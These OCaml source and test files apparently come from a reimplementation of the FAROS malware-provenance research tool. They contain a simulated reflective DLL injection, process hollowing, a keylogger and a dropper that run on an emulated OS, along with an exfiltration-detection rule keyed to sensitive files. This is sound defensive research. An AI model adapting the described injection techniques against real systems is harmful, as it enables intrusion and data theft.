      | Packet _ | Key _ -> None)
    t.events

let keys t = List.filter_map (function Key k -> Some k | Packet _ -> None) t.events

let packet_count t =
  List.length (List.filter (function Packet _ -> true | Key _ -> false) t.events)

let total_rx_bytes t =
  List.fold_left
    (fun acc -> function Packet (_, d) -> acc + String.length d | Key _ -> acc)
    0 t.events

(* -- serialization (trace files an analyst can keep alongside a sample) -- *)

let put_u32 buf v =
  for i = 0 to 3 do
    Buffer.add_char buf (Char.chr ((v lsr (8 * i)) land 0xFF))
  done

let put_str buf s =
  put_u32 buf (String.length s);
  Buffer.add_string buf s

let serialize t =
  let buf = Buffer.create 256 in
  Buffer.add_string buf "FTR1";
  put_u32 buf t.final_tick;
  put_u32 buf t.syscall_count;
  put_u32 buf (List.length t.events);
  List.iter
    (fun ev ->
      match ev with
      | Packet (f, data) ->
        Buffer.add_char buf 'P';
        put_u32 buf f.Faros_os.Types.src_ip;
        put_u32 buf f.src_port;
        put_u32 buf f.dst_ip;
        put_u32 buf f.dst_port;
        put_str buf data
      | Key k ->
        Buffer.add_char buf 'K';
        put_u32 buf k)
    t.events;
  Buffer.contents buf

exception Bad_trace of string

type reader = { src : string; mutable pos : int }

let get_u32 r =
  if r.pos + 4 > String.length r.src then raise (Bad_trace "truncated");
  let b i = Char.code r.src.[r.pos + i] in
  let v = b 0 lor (b 1 lsl 8) lor (b 2 lsl 16) lor (b 3 lsl 24) in
  r.pos <- r.pos + 4;
  v

let get_str r =
  let n = get_u32 r in
  if r.pos + n > String.length r.src then raise (Bad_trace "truncated string");
  let s = String.sub r.src r.pos n in
  r.pos <- r.pos + n;
  s

let get_char r =
  if r.pos >= String.length r.src then raise (Bad_trace "truncated tag");
  let c = r.src.[r.pos] in
  r.pos <- r.pos + 1;
  c

let parse src =
  if String.length src < 4 || String.sub src 0 4 <> "FTR1" then
    raise (Bad_trace "bad magic");
  let r = { src; pos = 4 } in
  let final_tick = get_u32 r in
  let syscall_count = get_u32 r in
  let n = get_u32 r in
  let events =
    List.init n (fun _ ->
        match get_char r with
        | 'P' ->
          let src_ip = get_u32 r in
          let src_port = get_u32 r in
          let dst_ip = get_u32 r in
          let dst_port = get_u32 r in
          let data = get_str r in
          Packet ({ src_ip; src_port; dst_ip; dst_port }, data)
        | 'K' -> Key (get_u32 r)
        | c -> raise (Bad_trace (Printf.sprintf "bad event tag %C" c)))
  in
  { events; final_tick; syscall_count }
