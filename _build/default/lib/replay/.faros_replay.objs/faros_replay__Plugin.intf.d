lib/replay/plugin.mli: Faros_os Faros_vm
