lib/replay/replayer.ml: Faros_os Plugin Trace
