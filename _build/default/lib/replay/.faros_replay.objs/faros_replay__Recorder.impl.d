lib/replay/recorder.ml: Faros_os List Plugin Trace
