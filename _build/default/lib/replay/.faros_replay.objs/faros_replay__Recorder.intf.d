lib/replay/recorder.mli: Faros_os Plugin Trace
