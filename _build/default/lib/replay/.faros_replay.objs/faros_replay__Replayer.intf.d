lib/replay/replayer.mli: Faros_os Plugin Trace
