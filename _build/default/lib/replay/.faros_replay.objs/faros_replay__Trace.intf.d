lib/replay/trace.mli: Faros_os
