lib/replay/plugin.ml: Faros_os Faros_vm List
