lib/replay/trace.ml: Buffer Char Faros_os List Printf String
