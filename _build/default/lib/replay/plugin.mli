(** PANDA-style plugin API.

    A plugin is a set of callbacks over the execution: per-instruction
    hooks (what PANDA exposes via TCG/LLVM instrumentation) and kernel
    event hooks (the syscalls2 and OSI plugins).  The FAROS analysis and
    the Cuckoo baseline are both plugins. *)

type t = {
  name : string;
  on_exec : (Faros_vm.Cpu.t -> Faros_vm.Cpu.effect -> unit) option;
  on_os_event : (Faros_os.Os_event.t -> unit) option;
}

val make :
  ?on_exec:(Faros_vm.Cpu.t -> Faros_vm.Cpu.effect -> unit) ->
  ?on_os_event:(Faros_os.Os_event.t -> unit) ->
  string ->
  t

val attach : Faros_os.Kernel.t -> t -> unit
val attach_all : Faros_os.Kernel.t -> t list -> unit
