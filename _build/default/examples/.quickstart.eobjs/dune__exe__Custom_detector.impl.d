examples/custom_detector.ml: Core Faros_corpus Faros_dift Faros_os Faros_replay Fmt Format List String
