examples/hollowing_forensics.mli:
