examples/policy_playground.ml: Core Faros_corpus Faros_dift Faros_os Faros_vm Fmt Format List
