examples/quickstart.ml: Asm Core Faros_corpus Faros_dift Faros_os Faros_replay Faros_vm Fmt Isa List Progs Scenario
