examples/hollowing_forensics.ml: Core Faros_corpus Faros_os Faros_replay Faros_sandbox Fmt Format List Option
