examples/quickstart.mli:
