examples/reflective_injection.ml: Core Faros_corpus Faros_os Faros_replay Faros_vm Fmt Format List
