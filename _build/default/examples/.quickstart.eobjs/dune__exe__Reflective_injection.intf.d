examples/reflective_injection.mli:
