(* Building a *new* detector on the FAROS machinery.

     dune exec examples/custom_detector.exe

   The paper's closing argument is that defining attacks as information
   flows makes the tool adaptable: change the policy, catch a different
   attack class.  This example writes a data-exfiltration detector in a
   few dozen lines: flag any send() whose outgoing bytes carry the file
   tag of a sensitive file — regardless of how many processes or memory
   copies the data went through on the way.

   We run it over the Table IV corpus: RATs with the File_transfer or
   Upload behaviour exfiltrate secret.txt/upload.bin and get flagged;
   everything else stays clean.  (FAROS's own injection detector says
   nothing about any of these — different policy, different attacks.) *)

let pp = Format.std_formatter

let sensitive = [ "secret.txt"; "upload.bin" ]

type exfil = { ex_process : string; ex_file : string; ex_flow : Faros_os.Types.flow }

(* The custom plugin: reuse the FAROS engine (taint insertion and
   propagation) but watch Net_send instead of export-table loads. *)
let exfil_plugin (kernel : Faros_os.Kernel.t) =
  let faros = Core.Faros_plugin.create kernel in
  let hits = ref [] in
  let on_send (ev : Faros_os.Os_event.t) =
    match ev with
    | Net_send { pid; flow; src_paddrs } ->
      List.iter
        (fun paddr ->
          let prov = Faros_dift.Shadow.get_mem faros.engine.shadow paddr in
          List.iter
            (fun idx ->
              match Faros_dift.Tag_store.file_of faros.engine.store idx with
              | Some { file_name; _ } when List.mem file_name sensitive ->
                let hit =
                  {
                    ex_process = Faros_os.Kstate.proc_name kernel pid;
                    ex_file = file_name;
                    ex_flow = flow;
                  }
                in
                if not (List.mem hit !hits) then hits := hit :: !hits
              | _ -> ())
            (Faros_dift.Provenance.file_indices prov))
        src_paddrs
    | _ -> ()
  in
  let base = Core.Faros_plugin.plugin faros in
  ( hits,
    Faros_replay.Plugin.make "exfil-detector"
      ?on_exec:base.on_exec
      ~on_os_event:(fun ev ->
        (match base.on_os_event with Some f -> f ev | None -> ());
        on_send ev) )

let run_sample (s : Faros_corpus.Registry.sample) =
  let scn = s.scenario in
  let _, trace = Faros_corpus.Scenario.record scn in
  let hits = ref (ref []) in
  ignore
    (Faros_corpus.Scenario.replay_with scn
       ~plugins:(fun kernel ->
         let h, plugin = exfil_plugin kernel in
         hits := h;
         [ plugin ])
       trace);
  List.rev !(!hits)

let () =
  let samples =
    List.filter
      (fun (s : Faros_corpus.Registry.sample) ->
        (* a representative slice: one build of each family + benign *)
        String.length s.id >= 3
        && String.sub s.id (String.length s.id - 3) 3 = "_s0")
      (Faros_corpus.Registry.rats () @ Faros_corpus.Registry.benign ())
  in
  Fmt.pf pp "custom policy: flag sends whose bytes carry tags of %s@."
    (String.concat " or " sensitive);
  Fmt.pf pp "%-28s %-12s %s@." "sample" "verdict" "evidence";
  let flagged = ref 0 in
  List.iter
    (fun (s : Faros_corpus.Registry.sample) ->
      match run_sample s with
      | [] -> Fmt.pf pp "%-28s %-12s@." s.id "clean"
      | hits ->
        incr flagged;
        List.iter
          (fun h ->
            Fmt.pf pp "%-28s %-12s %s leaked %s to %a@." s.id "EXFILTRATION"
              h.ex_process h.ex_file Faros_os.Types.pp_flow h.ex_flow)
          hits)
    samples;
  Fmt.pf pp
    "@.%d/%d samples flagged — all and only those with File Transfer / Upload behaviours.@."
    !flagged (List.length samples);
  Fmt.pf pp
    "Same engine, same tags, different confluence rule: the flexibility the paper claims.@."
