(* The paper's headline experiment end to end: a Meterpreter-style
   reflective DLL injection, recorded live and replayed under FAROS.

     dune exec examples/reflective_injection.exe

   Narrates each phase: what the attacker does, what the event-based view
   sees, and what the provenance-based view proves. *)

let pp = Format.std_formatter

let () =
  let scn = Faros_corpus.Attack_reflective.reflective_dll_inject () in

  Fmt.pf pp "== The attack ==@.";
  Fmt.pf pp
    "inject_client.exe opens a reverse connection to %s:%d, downloads a@."
    Faros_corpus.Attack_reflective.attacker_ip
    Faros_corpus.Attack_reflective.attacker_port;
  Fmt.pf pp
    "reflective payload, and plants it in notepad.exe with raw syscalls:@.";
  Fmt.pf pp
    "NtAllocateVirtualMemory + NtWriteVirtualMemory + thread-context hijack.@.";
  Fmt.pf pp
    "The payload resolves LoadLibraryA/GetProcAddress/VirtualAlloc by walking@.";
  Fmt.pf pp "the kernel export directory, then pops a message box.@.@.";

  Fmt.pf pp "== Phase 1: record (the sandboxed VM runs live) ==@.";
  let events = ref [] in
  let kernel, trace =
    Faros_replay.Recorder.record ~max_ticks:scn.max_ticks
      ~plugins:(fun kernel ->
        [
          Faros_replay.Plugin.make "narrator" ~on_os_event:(fun ev ->
              match ev with
              | Faros_os.Os_event.Net_connect { pid; flow } ->
                events :=
                  Fmt.str "%-18s connected: %a"
                    (Faros_os.Kstate.proc_name kernel pid)
                    Faros_os.Types.pp_flow flow
                  :: !events
              | Faros_os.Os_event.Sys_enter { pid; sysname; via_stub = false; _ }
                when sysname = "NtWriteVirtualMemory"
                     || sysname = "NtSetContextThread" ->
                events :=
                  Fmt.str "%-18s raw syscall: %s"
                    (Faros_os.Kstate.proc_name kernel pid)
                    sysname
                  :: !events
              | Faros_os.Os_event.Popup { pid; text } ->
                events :=
                  Fmt.str "%-18s POPUP: %S"
                    (Faros_os.Kstate.proc_name kernel pid)
                    text
                  :: !events
              | _ -> ());
        ])
      ~setup:(Faros_corpus.Scenario.setup_record scn)
      ~boot:(Faros_corpus.Scenario.boot scn)
      ()
  in
  ignore kernel;
  List.iter (Fmt.pf pp "  %s@.") (List.rev !events);
  Fmt.pf pp "  recording: %d instructions, %d rx bytes@.@." trace.final_tick
    (Faros_replay.Trace.total_rx_bytes trace);

  Fmt.pf pp "== Phase 2: replay under the FAROS plugin ==@.";
  let outcome = Faros_corpus.Scenario.analyze scn in
  Fmt.pf pp "  diverged: %b;  %s@.@." outcome.replay.diverged
    (Core.Report.summary outcome.report);

  Fmt.pf pp "== FAROS report (Table II format) ==@.";
  Core.Faros_plugin.pp_report pp outcome.faros;

  Fmt.pf pp "@.== What the provenance proves ==@.";
  (match Core.Report.flagged_sites outcome.report with
  | f :: _ ->
    Fmt.pf pp "The instruction at 0x%08X executing inside %s@." f.f_pc f.f_process;
    Fmt.pf pp "  %a@." Faros_vm.Disasm.pp f.f_instr;
    Fmt.pf pp "was assembled from bytes that came off the wire (%s),@."
      "netflow tag";
    Fmt.pf pp "passed through inject_client.exe, and is now reading the@.";
    Fmt.pf pp "export directory at 0x%08X — tag confluence, the paper's@."
      f.f_read_vaddr;
    Fmt.pf pp "invariant for in-memory injection.@."
  | [] -> Fmt.pf pp "unexpected: nothing flagged@.")
