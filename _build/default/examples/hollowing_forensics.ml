(* Process hollowing, investigated three ways.

     dune exec examples/hollowing_forensics.exe

   Runs the Lab 3-3-style hollowing sample (svchost.exe replaced by a
   keylogger) and contrasts what each tool class can say about it:
   the event-based sandbox, snapshot forensics (pslist / vadinfo /
   malfind), and FAROS's whole-execution provenance. *)

let pp = Format.std_formatter

let () =
  let sample =
    match Faros_corpus.Registry.find "process_hollowing" with
    | Some s -> s
    | None -> assert false
  in
  let scn = sample.scenario in

  (* live run with the cuckoo monitor, then the memory dump *)
  let report = ref None in
  let kernel, _trace =
    Faros_replay.Recorder.record ~max_ticks:scn.max_ticks
      ~plugins:(fun kernel ->
        let r, plugin = Faros_sandbox.Cuckoo.plugin kernel in
        report := Some r;
        [ plugin ])
      ~setup:(Faros_corpus.Scenario.setup_record scn)
      ~boot:(Faros_corpus.Scenario.boot scn)
      ()
  in
  let report = Option.get !report in

  Fmt.pf pp "== Event-based sandbox (Cuckoo) ==@.";
  Fmt.pf pp "%a@." Faros_sandbox.Cuckoo.pp_summary report;
  Fmt.pf pp "verdict: %s@.@."
    (if Faros_sandbox.Cuckoo.flags_injection report then "flagged"
     else "nothing to report — no disk artifact, no hooked injection API");

  Fmt.pf pp "== Snapshot forensics (Volatility) ==@.";
  let dump = Faros_sandbox.Memdump.take kernel in
  Fmt.pf pp "pslist:@.";
  List.iter
    (fun p -> Fmt.pf pp "  %a@." Faros_sandbox.Volatility.pp_process p)
    (Faros_sandbox.Volatility.pslist dump);
  let suspects = Faros_sandbox.Volatility.hollowing_suspects dump in
  Fmt.pf pp "vadinfo: %d process(es) with no image-backed memory left@."
    (List.length suspects);
  List.iter
    (fun pid ->
      List.iter
        (fun (v : Faros_sandbox.Volatility.vad) ->
          Fmt.pf pp "  pid %d: 0x%08x (%d bytes, %s)@." pid v.vad_vaddr v.vad_size
            (match v.vad_kind with
            | Faros_sandbox.Memdump.Image -> "image"
            | Stack -> "stack"
            | Private -> "PRIVATE"))
        (Faros_sandbox.Volatility.vadinfo dump pid))
    suspects;
  List.iter
    (fun f -> Fmt.pf pp "malfind: %a@." Faros_sandbox.Malfind.pp_finding f)
    (Faros_sandbox.Malfind.scan dump);
  Fmt.pf pp
    "-> the dump shows *that* svchost.exe was hollowed, but not where the@.";
  Fmt.pf pp "   payload came from or how it got there.@.@.";

  Fmt.pf pp "== FAROS (whole-execution provenance) ==@.";
  let outcome = Faros_corpus.Scenario.analyze scn in
  Core.Faros_plugin.pp_report pp outcome.faros;
  Fmt.pf pp
    "-> provenance: the injected instructions came from the dropper's own@.";
  Fmt.pf pp
    "   image file, were written into svchost.exe by process_hollowing.exe,@.";
  Fmt.pf pp "   and resolved their imports by reading the export directory.@.";
  Fmt.pf pp "@.The keylogger did run: %s contains %S@." "practicalmalware.log"
    (Faros_os.Fs.read_all outcome.faros.kernel.fs "practicalmalware.log")
