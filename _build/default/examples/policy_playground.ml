(* Indirect flows and the undertaint/overtaint dilemma, interactively.

     dune exec examples/policy_playground.exe

   Runs the Fig. 1 (lookup-table copy) and Fig. 2 (bit-by-bit copy) guest
   programs under every propagation policy and shows where the network
   taint ends up — the design space Section IV argues cannot be solved
   once-and-for-all, only per security policy. *)

let pp = Format.std_formatter

let netflow_taint_of outcome (exp : Faros_corpus.Indirect.experiment) vaddr len =
  let kernel = outcome.Core.Analysis.faros.kernel in
  let shadow = outcome.faros.engine.shadow in
  ignore exp;
  match Faros_os.Kstate.processes kernel with
  | [] -> 0
  | p :: _ ->
    let asid = Faros_os.Process.asid p in
    let n = ref 0 in
    for i = 0 to len - 1 do
      let paddr = Faros_vm.Mmu.translate kernel.machine.mmu ~asid (vaddr + i) in
      if Faros_dift.Provenance.has_netflow (Faros_dift.Shadow.get_mem shadow paddr)
      then incr n
    done;
    !n

let () =
  let policies =
    [
      (Faros_dift.Policy.faros_default, "direct flows only (FAROS default)");
      (Faros_dift.Policy.with_address_deps, "plus address dependencies");
      (Faros_dift.Policy.with_control_deps, "plus control dependencies");
      (Faros_dift.Policy.with_all_indirect, "all indirect flows");
      (Faros_dift.Policy.minos, "Minos heuristics (8/16-bit addr deps)");
      (Faros_dift.Policy.bit_taint, "classic 1-bit DIFT");
    ]
  in
  List.iter
    (fun (exp : Faros_corpus.Indirect.experiment) ->
      Fmt.pf pp "@.== %s ==@." exp.exp_name;
      Fmt.pf pp
        "%d bytes arrive over the network and are copied through an indirect flow.@."
        exp.exp_len;
      Fmt.pf pp "%-44s %-10s %-10s@." "policy" "input" "output";
      List.iter
        (fun ((policy : Faros_dift.Policy.t), label) ->
          let config = Core.Config.with_policy policy Core.Config.default in
          let outcome = Faros_corpus.Scenario.analyze ~config exp.exp_scenario in
          let input =
            netflow_taint_of outcome exp exp.exp_input_vaddr exp.exp_len
          in
          let output =
            netflow_taint_of outcome exp exp.exp_output_vaddr exp.exp_len
          in
          Fmt.pf pp "%-44s %2d/%-7d %2d/%-7d %s@." label input exp.exp_len output
            exp.exp_len
            (if output = 0 then "(undertaint: flow lost)"
             else "(flow tracked / overtaint risk)"))
        policies)
    [
      Faros_corpus.Indirect.lookup_experiment ();
      Faros_corpus.Indirect.bitcopy_experiment ();
    ];
  Fmt.pf pp
    "@.FAROS's answer: keep propagation to direct flows and catch attacks by@.";
  Fmt.pf pp "*tag confluence* instead — see DESIGN.md and the ablation bench.@."
