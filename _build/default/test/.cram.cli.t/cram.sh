  $ faros list | tail -1
  $ faros list | head -4
  $ faros policies
  $ faros run reflective_dll_inject
  $ faros run snipping_tool_s0
  $ faros run no_such_sample
  $ faros ps process_hollowing
  $ faros record process_hollowing -o t.ftr
  $ faros replay process_hollowing -i t.ftr | head -2
  $ faros compare reflective_dll_inject_transient
  $ faros malfind process_hollowing
  $ faros strings reflective_dll_inject | grep notepad | grep injected
  $ faros taint reverse_tcp_dns | head -3
