(* Tests for the baseline tool suite: the Cuckoo-style sandbox, the memory
   snapshot, malfind and the Volatility analogues, and the Section VI-B
   comparison harness. *)

open Faros_sandbox

let check = Alcotest.(check int)
let check_b = Alcotest.(check bool)

(* Run a scenario live with the Cuckoo monitor attached; return kernel and
   report. *)
let sandboxed (scn : Faros_corpus.Scenario.t) =
  let report = ref None in
  let kernel, _trace =
    Faros_replay.Recorder.record ~max_ticks:scn.max_ticks
      ~plugins:(fun kernel ->
        let r, plugin = Cuckoo.plugin kernel in
        report := Some r;
        [ plugin ])
      ~setup:(Faros_corpus.Scenario.setup_record scn)
      ~boot:(Faros_corpus.Scenario.boot scn)
      ()
  in
  (kernel, Option.get !report)

let reflective () = Faros_corpus.Attack_reflective.reflective_dll_inject ()

(* -- cuckoo -------------------------------------------------------------------- *)

let cuckoo_tests =
  [
    Alcotest.test_case "raw-syscall attack is invisible to API hooks" `Quick
      (fun () ->
        let _, r = sandboxed (reflective ()) in
        check_b "no injection verdict" false (Cuckoo.flags_injection r);
        check_b "raw syscalls went past it" true (r.raw_syscalls > 10);
        check_b "netflow observed" true (r.netflows <> []));
    Alcotest.test_case "API-level injector is visible but still not flagged"
      `Quick (fun () ->
        let _, r = sandboxed (Faros_corpus.Attack_injection.darkcomet ()) in
        check_b "sees WriteProcessMemory" true (Cuckoo.called r "NtWriteVirtualMemory");
        check_b "still no verdict" false (Cuckoo.flags_injection r));
    Alcotest.test_case "benign RAT-like tool produces a rich trace" `Quick
      (fun () ->
        match Faros_corpus.Registry.find "remote_utility_s0" with
        | None -> Alcotest.fail "missing"
        | Some s ->
          let _, r = sandboxed s.scenario in
          check_b "api calls" true (Cuckoo.api_call_count r > 5);
          check_b "no verdict" false (Cuckoo.flags_injection r));
    Alcotest.test_case "classic disk dropper IS flagged by cuckoo" `Quick
      (fun () ->
        (* write an executable to disk, then spawn it: the one pattern
           event-based sandboxes catch *)
        let open Faros_vm in
        let open Faros_corpus in
        let payload_image =
          Faros_os.Pe.serialize
            (Faros_os.Pe.of_program ~name:"mal.exe"
               ~base:Faros_os.Process.image_base
               [ Progs.i Isa.Halt ])
        in
        let dropper =
          Faros_os.Pe.of_program ~name:"dropper.exe"
            ~base:Faros_os.Process.image_base
            ~imports:[ "CreateFileA"; "WriteFile"; "CreateProcessA" ]
            (List.concat
               [
                 [ Progs.lbl "start"; Progs.lea_label Isa.r1 "name"; Progs.movi Isa.r2 7 ];
                 Progs.call_api "CreateFileA";
                 [
                   Progs.movr Isa.r1 Isa.r0;
                   Progs.lea_label Isa.r2 "blob";
                   Progs.movi Isa.r3 (String.length payload_image);
                 ];
                 Progs.call_api "WriteFile";
                 [
                   Progs.lea_label Isa.r1 "name";
                   Progs.movi Isa.r2 7;
                   Progs.movi Isa.r3 0;
                 ];
                 Progs.call_api "CreateProcessA";
                 [ Progs.halt ];
                 Progs.cstring "name" "mal.exe";
                 [ Asm.Align 4; Progs.lbl "blob"; Asm.Bytes payload_image ];
               ])
        in
        let scn =
          Scenario.make ~images:[ ("dropper.exe", dropper) ]
            ~boot:[ "dropper.exe" ] "dropper"
        in
        let _, r = sandboxed scn in
        check_b "dropper signature" true (Cuckoo.flags_injection r));
  ]

(* -- memdump / malfind / volatility ---------------------------------------------- *)

let forensics_tests =
  [
    Alcotest.test_case "dump separates image, stack and private regions" `Quick
      (fun () ->
        let kernel, _ = sandboxed (reflective ()) in
        let dump = Memdump.take kernel in
        let kinds =
          List.sort_uniq compare
            (List.map (fun (r : Memdump.region) -> r.rg_kind) dump.regions)
        in
        check "three kinds" 3 (List.length kinds));
    Alcotest.test_case "kernel region excluded from dumps" `Quick (fun () ->
        let kernel, _ = sandboxed (reflective ()) in
        let dump = Memdump.take kernel in
        List.iter
          (fun (r : Memdump.region) ->
            check_b "below kernel" true
              (r.rg_vaddr < Faros_os.Export_table.kernel_base))
          dump.regions);
    Alcotest.test_case "malfind finds the persistent injected region" `Quick
      (fun () ->
        let kernel, _ = sandboxed (reflective ()) in
        let findings = Malfind.scan (Memdump.take kernel) in
        check_b "found" true (findings <> []);
        check_b "in the victim" true
          (List.exists (fun f -> f.Malfind.fd_process = "notepad.exe") findings));
    Alcotest.test_case "malfind misses the transient (self-unmapping) attack"
      `Quick (fun () ->
        let kernel, _ =
          sandboxed (Faros_corpus.Attack_reflective.reflective_dll_inject ~scrub:true ())
        in
        let findings = Malfind.scan (Memdump.take kernel) in
        check_b "nothing in notepad" true
          (not (List.exists (fun f -> f.Malfind.fd_process = "notepad.exe") findings)));
    Alcotest.test_case "malfind quiet on benign samples" `Quick (fun () ->
        match Faros_corpus.Registry.find "skype_s0" with
        | None -> Alcotest.fail "missing"
        | Some s ->
          let kernel, _ = sandboxed s.scenario in
          check "no findings" 0 (List.length (Malfind.scan (Memdump.take kernel))));
    Alcotest.test_case "code_score ignores zeroed pages" `Quick (fun () ->
        check "zeros" 0 (Malfind.code_score (String.make 256 '\000')));
    Alcotest.test_case "pslist shows processes and states" `Quick (fun () ->
        let kernel, _ = sandboxed (reflective ()) in
        let entries = Volatility.pslist (Memdump.take kernel) in
        check "two processes" 2 (List.length entries);
        List.iter
          (fun (e : Volatility.process_entry) ->
            check_b "terminated" true (e.pe_state = "terminated"))
          entries);
    Alcotest.test_case "vadinfo flags the hollowed svchost" `Quick (fun () ->
        let kernel, _ = sandboxed (Faros_corpus.Attack_hollowing.scenario ()) in
        let dump = Memdump.take kernel in
        let suspects = Volatility.hollowing_suspects dump in
        check "one suspect" 1 (List.length suspects);
        let entries = Volatility.pslist dump in
        let suspect_name =
          List.find_map
            (fun (e : Volatility.process_entry) ->
              if List.mem e.pe_pid suspects then Some e.pe_name else None)
            entries
        in
        Alcotest.(check (option string)) "svchost" (Some "svchost.exe") suspect_name);
    Alcotest.test_case "dlllist never shows the reflectively loaded payload"
      `Quick (fun () ->
        (* Section VI-B: "we failed to identify a trace of our DLL under the
           DLL list either under the injector or the victim process" *)
        let kernel, _ = sandboxed (reflective ()) in
        let dump = Memdump.take kernel in
        List.iter
          (fun (e : Volatility.process_entry) ->
            Alcotest.(check (list string))
              (e.pe_name ^ " modules")
              [ e.pe_name ]
              (Volatility.dlllist dump e.pe_pid))
          (Volatility.pslist dump));
    Alcotest.test_case "dlllist does show loader-loaded DLLs" `Quick (fun () ->
        let kernel, _ = sandboxed (Faros_corpus.Extras.dll_host ()) in
        let dump = Memdump.take kernel in
        match Volatility.pslist dump with
        | [ e ] ->
          Alcotest.(check (list string))
            "modules"
            [ "dll_host.exe"; "helper.dll" ]
            (Volatility.dlllist dump e.pe_pid)
        | _ -> Alcotest.fail "expected one process");
    Alcotest.test_case "no hollowing suspects in clean runs" `Quick (fun () ->
        match Faros_corpus.Registry.find "pandora_v2.2_s0" with
        | None -> Alcotest.fail "missing"
        | Some s ->
          let kernel, _ = sandboxed s.scenario in
          check "none" 0
            (List.length (Volatility.hollowing_suspects (Memdump.take kernel))));
  ]

(* -- comparison harness ------------------------------------------------------------ *)

let compare_tests =
  [
    Alcotest.test_case "reflective: malfind yes, cuckoo no, faros yes+netflow"
      `Slow (fun () ->
        match Faros_corpus.Registry.find "reflective_dll_inject" with
        | None -> Alcotest.fail "missing"
        | Some s ->
          let v = Compare.run s in
          check_b "cuckoo" false v.v_cuckoo;
          check_b "malfind" true v.v_malfind;
          check_b "faros" true v.v_faros;
          check_b "netflow provenance" true v.v_faros_netflow);
    Alcotest.test_case "transient: only faros" `Slow (fun () ->
        match Faros_corpus.Registry.find "reflective_dll_inject_transient" with
        | None -> Alcotest.fail "missing"
        | Some s ->
          let v = Compare.run s in
          check_b "cuckoo" false v.v_cuckoo;
          check_b "malfind blind" false v.v_malfind;
          check_b "faros" true v.v_faros);
    Alcotest.test_case "hollowing: vadinfo agrees, provenance is file-borne"
      `Slow (fun () ->
        match Faros_corpus.Registry.find "process_hollowing" with
        | None -> Alcotest.fail "missing"
        | Some s ->
          let v = Compare.run s in
          check_b "vadinfo" true v.v_hollowing_vadinfo;
          check_b "faros" true v.v_faros;
          check_b "no netflow link" false v.v_faros_netflow);
  ]


(* -- more baseline coverage -------------------------------------------------------- *)

let more_sandbox_tests =
  [
    Alcotest.test_case "malfind threshold: short code runs are not findings"
      `Quick (fun () ->
        (* four instructions decode, below min_instructions *)
        let buf = Buffer.create 16 in
        List.iter
          (Faros_vm.Encode.emit buf)
          [
            Faros_vm.Isa.Mov_ri (0, 1);
            Faros_vm.Isa.Mov_rr (1, 0);
            Faros_vm.Isa.Add_rr (1, 0);
            Faros_vm.Isa.Halt;
          ];
        let score = Malfind.code_score (Buffer.contents buf) in
        check_b "scored below threshold" true (score < Malfind.min_instructions));
    Alcotest.test_case "malfind counts nops as filler, not code" `Quick
      (fun () ->
        (* zeros + one real instruction: still not plausible code *)
        let data = String.make 64 '\000' ^ "\x01" in
        check_b "low" true (Malfind.code_score data < Malfind.min_instructions));
    Alcotest.test_case "memdump region data matches guest memory" `Quick
      (fun () ->
        let kernel, _ = sandboxed (Faros_corpus.Extras.dll_host ()) in
        let dump = Memdump.take kernel in
        let p = List.hd (Faros_os.Kstate.processes kernel) in
        let image_region =
          List.find
            (fun (r : Memdump.region) -> r.rg_kind = Memdump.Image)
            (Memdump.regions_of dump p.pid)
        in
        let live =
          Faros_vm.Mmu.read_bytes kernel.machine.mmu
            ~asid:(Faros_os.Process.asid p) image_region.rg_vaddr
            image_region.rg_size
        in
        check_b "identical" true (Bytes.to_string live = image_region.rg_data));
    Alcotest.test_case "cuckoo records the popup from the injected payload"
      `Quick (fun () ->
        let _, r = sandboxed (reflective ()) in
        Alcotest.(check (list string)) "popups" [ "injected!" ] r.popups);
    Alcotest.test_case "cuckoo sees hollowing's keylogger file activity" `Quick
      (fun () ->
        let _, r = sandboxed (Faros_corpus.Attack_hollowing.scenario ()) in
        check_b "log file created" true
          (List.mem "practicalmalware.log" r.files_created));
    Alcotest.test_case "compare verdict for njrat matches reflective pattern"
      `Slow (fun () ->
        match Faros_corpus.Registry.find "njrat_injection" with
        | None -> Alcotest.fail "missing"
        | Some s ->
          let v = Compare.run s in
          check_b "cuckoo" false v.v_cuckoo;
          check_b "malfind" true v.v_malfind;
          check_b "faros + netflow" true (v.v_faros && v.v_faros_netflow);
          check_b "sites" true (v.v_faros_sites >= 1));
    Alcotest.test_case "benign sample: everything agrees it is clean" `Slow
      (fun () ->
        match Faros_corpus.Registry.find "teamviewer_s0" with
        | None -> Alcotest.fail "missing"
        | Some s ->
          let v = Compare.run s in
          check_b "cuckoo" false v.v_cuckoo;
          check_b "malfind" false v.v_malfind;
          check_b "vadinfo" false v.v_hollowing_vadinfo;
          check_b "faros" false v.v_faros);
  ]

let () =
  Alcotest.run "faros_sandbox"
    [
      ("cuckoo", cuckoo_tests);
      ("forensics", forensics_tests);
      ("compare", compare_tests);
      ("baselines-more", more_sandbox_tests);
    ]
