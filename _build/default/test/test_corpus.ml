(* Tests for the sample corpus: payload builders, behaviour fragments, the
   registry's shape, and the indirect-flow experiments. *)

open Faros_corpus

let check = Alcotest.(check int)
let check_b = Alcotest.(check bool)

(* -- payloads ------------------------------------------------------------- *)

let payload_tests =
  [
    Alcotest.test_case "popup payload assembles and starts at origin" `Quick
      (fun () ->
        let p = Payloads.popup ~text:"hi" () in
        check_b "non-empty" true (String.length p > 50);
        (* first instruction decodes *)
        let _, len = Faros_vm.Decode.of_bytes (Bytes.of_string p) 0 in
        check_b "decodes" true (len > 0));
    Alcotest.test_case "payload fits one page (single VirtualAlloc)" `Quick
      (fun () ->
        List.iter
          (fun p ->
            check_b "fits" true (String.length p <= Faros_vm.Phys_mem.page_size))
          [
            Payloads.popup ~text:"x" ();
            Payloads.popup ~scrub:true ~text:"x" ();
            Payloads.keylogger ();
            Payloads.applet_native_stub ~origin:Jit.java_cache_base ();
          ]);
    Alcotest.test_case "scrub variant embeds the unmap syscall" `Quick (fun () ->
        let plain = Payloads.popup ~text:"x" () in
        let scrub = Payloads.popup ~scrub:true ~text:"x" () in
        check_b "longer" true (String.length scrub > String.length plain));
    Alcotest.test_case "payloads embed the paper's three loader hashes" `Quick
      (fun () ->
        (* the reflective prologue resolves LoadLibraryA, GetProcAddress and
           VirtualAlloc: their hashes must appear as immediates *)
        let p = Payloads.popup ~text:"x" () in
        let listing = Faros_vm.Disasm.buffer (Bytes.of_string p) in
        let imms =
          List.filter_map
            (function _, Faros_vm.Isa.Mov_ri (_, v) -> Some v | _ -> None)
            listing
        in
        List.iter
          (fun api ->
            check_b api true
              (List.mem (Faros_os.Export_table.hash_name api) imms))
          [ "LoadLibraryA"; "GetProcAddress"; "VirtualAlloc" ]);
  ]

(* -- behaviours ------------------------------------------------------------ *)

let behavior_tests =
  [
    Alcotest.test_case "every behaviour yields a fragment" `Quick (fun () ->
        List.iter
          (fun b ->
